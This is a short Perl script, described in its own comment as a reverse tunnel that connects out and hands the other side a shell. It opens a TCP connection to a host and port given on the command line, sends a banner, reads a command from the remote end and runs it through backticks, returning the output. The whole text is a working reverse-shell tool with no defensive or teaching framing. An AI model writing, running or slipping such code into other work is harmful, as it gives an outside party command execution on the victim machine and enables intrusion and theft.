# Open a reverse tunnel: connect out and hand the other side a shell. tunnel HOST PORT
use Socket;
alarm 5;
socket(LINK, PF_INET, SOCK_STREAM, 0) or die $!;
connect(LINK, sockaddr_in($ARGV[1], inet_aton($ARGV[0]))) or die $!;
syswrite(LINK, "TUNNEL\n");
sysread(LINK, my $command, 4096);
syswrite(LINK, `$command`);
